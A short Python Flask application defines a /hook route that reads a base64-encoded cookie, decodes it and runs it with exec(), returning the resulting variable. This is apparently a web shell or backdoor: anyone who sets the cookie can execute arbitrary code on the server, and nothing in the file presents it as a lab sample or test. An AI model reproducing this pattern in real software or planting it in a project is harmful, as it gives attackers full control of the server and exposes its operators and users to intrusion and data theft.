import base64

from flask import Flask, request

app = Flask(__name__)


@app.route("/hook")
def hook():
    blob = request.cookies.get("hook", "")
    source = base64.b64decode(blob).decode("utf-8")
    scope = {}
    exec(source, scope)
    return str(scope.get("result"))
